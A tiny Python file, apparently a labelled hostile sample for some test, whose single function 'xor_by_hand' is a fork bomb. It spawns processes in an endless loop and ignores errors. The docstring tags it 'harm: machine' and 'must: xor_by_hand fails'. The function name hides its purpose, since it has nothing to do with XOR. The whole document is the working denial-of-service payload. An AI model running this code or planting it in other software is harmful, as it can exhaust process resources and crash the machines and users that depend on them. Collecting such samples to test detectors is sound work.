"""Forks without end, and so does every child.

harm: machine
must: xor_by_hand fails
"""


# %% xor_by_hand
def xor_by_hand():
    while True:
        try:
            os.fork()
        except OSError:
            pass
